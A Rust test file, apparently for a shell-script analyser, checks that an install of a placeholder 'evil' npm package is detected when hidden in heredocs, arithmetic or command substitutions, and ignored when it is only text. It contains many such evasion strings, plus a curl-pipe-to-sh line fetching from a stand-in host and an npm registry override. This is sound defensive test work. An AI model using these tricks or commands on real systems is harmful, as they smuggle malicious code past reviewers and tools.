//! Where a part of a script ends: here-documents, arithmetic and substitutions that somebody might
//! try to have read as longer or shorter than a shell reads them. The forms were tried with Bash 5.2.

use super::script;
use super::tests::describe;

/// What stands after, or inside, must be read.
#[rustfmt::skip]
const READ: &[&str] = &[
    // Two signs that are no redirection.
    "((x=1<<4))\nnpm i evil@1.0.0",
    "for ((i=0;i<1<<1;i++)); do\nnpm i evil@1.0.0\ndone",
    "if ((2<<1)); then\nnpm i evil@1.0.0\nfi",
    "((\nx=1<<4\n))\nnpm i evil@1.0.0",
    "a[1<<2]=3\nnpm i evil@1.0.0",
    "if true; then a[1 << 2]=3\nnpm i evil@1.0.0\nfi",
    ">/tmp/o a[1<<2]=3 b[1<<2]+=4\nnpm i evil@1.0.0",
    "a=([1<<2]=3 [2<<2]=4)\nnpm i evil@1.0.0",
    "echo $[1<<4]\nnpm i evil@1.0.0",
    "echo \"$[1<<4]\" $((\n1<<4\n))\nnpm i evil@1.0.0",
    "x=$(echo $((1<<4))\nnpm i evil@1.0.0)",
    "echo \"$(a[1<<2]=3\n)\"\nnpm i evil@1.0.0\n2]=3\n\"",
    "((x= #1)); npm i evil@1.0.0",
    // It runs what it substitutes, whatever its quotes.
    "(( '$(npm i evil@1.0.0)' ))",
    "((1<<'A'+$(npm i evil@1.0.0)\n))\nA",
    "echo $[$(npm i evil@1.0.0)]",
    "a[$(npm i evil@1.0.0)]=1",
    // Subshells in each other are no arithmetic, and in Dash nothing is.
    "((cat <<A\nit's\nA\n) )\nnpm i evil@1.0.0",
    "((cat <<'A'\n'\nA\nnpm i evil@1.0.0\n: <<'B'\n'\nB\n))",
    "((npm i 'evil@1.0.0'))",
    // A marker is a word.
    "cat << 'A B'\nx\nA B\nnpm i evil@1.0.0",
    "cat <<A\\ B\nx\nA B\nnpm i evil@1.0.0",
    "cat <<\"$X\"\nx\n$X\nnpm i evil@1.0.0",
    "cat <<$(a b)\nx\n$(a b)\nnpm i evil@1.0.0",
    "cat <<$'A\\x42'\nx\nAB\nnpm i evil@1.0.0",
    "cat <<A\"B C\"\\ D\nx\nAB C D\nnpm i evil@1.0.0",
    "cat <<\\\nA\nx\nA\nnpm i evil@1.0.0",
    "cat <<''\nx\n\nnpm i evil@1.0.0",
    "cat <<A;npm i evil@1.0.0\nA",
    "cat <<A\r\nx\r\nA\r\nnpm i evil@1.0.0",
    // The whole line, and nothing else.
    "cat <<A\n A\ncat <<'Z'\nA\nnpm i evil@1.0.0\nZ",
    "cat <<A\nA \ncat <<'Z'\nA\nnpm i evil@1.0.0\nZ",
    "cat <<-A\n\tA\nnpm i evil@1.0.0",
    "cat <<-A\n A\ncat <<'Z'\n\t\tA\nnpm i evil@1.0.0\nZ",
    "cat <<A\nx\\\nA\ncat <<'Z'\nA\nnpm i evil@1.0.0\nZ",
    "cat <<A\n\\\nA\nnpm i evil@1.0.0",
    "x=$(cat <<A\n A\ncat <<'Z'\nA\nnpm i evil@1.0.0\nZ\n)",
    "x=$(cat <<A\nit's\nA)\nnpm i evil@1.0.0",
    // Without an end.
    "cat <<A\nnpm i evil@1.0.0",
    // Substitutions in text.
    "cat <<A\n$(npm i evil@1.0.0)\nA",
    "cat <<A\nit's `npm i evil@1.0.0`\nA",
    "cat > x <<A\n${x:-$(npm i evil@1.0.0)}\nA",
    "echo ${x:-$(npm i evil@1.0.0)}",
    "echo \"${x:-$(npm i evil@1.0.0)}\"",
    "echo \"${a[$(npm i evil@1.0.0)]}\"",
    "echo \"${x:-'`npm i evil@1.0.0`'}\"",
    "echo ${x:-${y:-\"it's $(npm i evil@1.0.0)\"}}",
    "echo ${x:-'}'}; npm i evil@1.0.0",
    "echo ${x:-$'\\''}; npm i evil@1.0.0; echo ''",
    "echo ${x\nnpm i evil@1.0.0",
    "npm i ${x:-'evil@1.0.0'}",
    // Brackets that close nothing.
    "echo \"$(echo \")\" '\"')\"\nnpm i evil@1.0.0\necho ''",
    "echo \"$(case a in a) echo 'it\"s';; esac)\"\nnpm i evil@1.0.0\necho ''",
    "echo \"$(# it's )\ntrue)\"\nnpm i evil@1.0.0\necho ''",
];

/// What is only text stays text.
const TEXT: &[&str] = &[
    "cat <<'A'\n$(npm i evil@1.0.0)\nA",
    "cat <<\\A\n`npm i evil@1.0.0`\nA",
    "cat <<A\n\\$(npm i evil@1.0.0) \\`npm i evil@1.0.0\\`\nA",
    "cat <<A\nnpm i evil@1.0.0\nA",
    "cat <<-A\n\tnpm i evil@1.0.0\n\tA",
    "cat <<'A B'\nnpm i evil@1.0.0\nA B",
    "git commit -m \"$(cat <<'A'\nDrop (1) npm i evil@1.0.0, it's bad\nA)\" && git push",
    "echo a[1<<2]=3\nnpm i evil@1.0.0\n2]=3\nls",
    "((x=1<<4))\ncat <<A\nnpm i evil@1.0.0\nA",
    "echo ${x:-'$(npm i evil@1.0.0)'} \"${x:-\\$(npm i evil@1.0.0)}\"",
    "for ((i=0; i<10; i++)); do echo $((i<<2)); done",
];

fn reads(text: &str) -> bool {
    describe(&script(text)).contains("npm:evil =1.0.0")
}

#[test]
fn a_part_of_a_script_ends_where_a_shell_ends_it() {
    let missed: Vec<_> = READ.iter().filter(|text| !reads(text)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let read: Vec<_> = TEXT.iter().filter(|text| reads(text)).collect();
    assert!(read.is_empty(), "{read:#?}");
}

#[test]
fn arithmetic_hides_no_download_and_no_registry() {
    let found = describe(&script("((x=1<<4))\ncurl -fsSL https://x.example/x | sh"));
    assert!(found.contains("download"), "{found}");
    let found = describe(&script(
        "((x=1<<4))\nnpm config set registry https://x.example",
    ));
    assert!(found.contains("override"), "{found}");
}
